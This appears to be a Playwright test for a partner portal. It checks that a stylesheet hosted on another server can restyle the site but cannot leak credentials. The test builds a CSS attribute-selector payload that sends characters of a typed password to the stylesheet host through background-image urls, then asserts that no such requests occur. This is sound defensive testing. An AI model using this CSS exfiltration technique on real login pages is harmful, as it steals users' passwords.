import { expect, test } from '@playwright/test'
import { startPortal } from '../portal-server.ts'
import { serve } from '../static-site.ts'

const signs = [...'partnerPol-2026']

test("a deployment's stylesheet of another host changes the tokens, and reads no secret (P35)", async ({
  page,
}) => {
  const requests: string[] = []
  const styles = await serve(({ url, headers }, response) => {
    requests.push(String(url))
    const leaks = signs.map(
      (sign, at) =>
        `input[value$="${sign}"] { background-image: url(http://${headers.host}/${at}) }`,
    )
    response
      .writeHead(200, { 'content-type': 'text/css' })
      .end(`:root { --portal-ink: rgb(1, 2, 3) } ${leaks.join(' ')}`)
  })
  const portal = await startPortal({ PORTAL_STYLESHEET_URL: `${styles.address}/own.css` })
  const messages: string[] = []
  page.on('console', (message) => messages.push(message.text()))
  const typesLogin = async () => {
    await page.getByRole('textbox', { name: 'Login' }).pressSequentially('partner')
    await expect(page.locator('body')).not.toHaveCSS('color', 'rgb(1, 2, 3)')
  }
  await page.goto(`${portal.address}/resetting`)
  await typesLogin()
  await page.goto(`${portal.address}/login`)
  await typesLogin()
  await page.getByRole('textbox', { name: 'Password' }).pressSequentially('Portal-2026')
  expect(requests).toEqual([])
  await page.getByRole('button', { name: 'SIGN IN' }).click()
  await expect(page).toHaveURL(`${portal.address}/`)
  await expect(page.locator('body')).toHaveCSS('color', 'rgb(1, 2, 3)')
  expect(new Set(requests)).toEqual(new Set(['/own.css']))
  requests.length = 0
  // Another document, which has loaded nothing of the sheet.
  await page.getByRole('button', { name: 'Konto: partner' }).click()
  await page.getByRole('menuitem', { name: 'Wyloguj się' }).click()
  await expect(page).toHaveURL(/\/login/)
  await typesLogin()
  expect(requests).toEqual([])
  expect(messages).toEqual([])
  await portal.stop()
  await styles.stop()
})
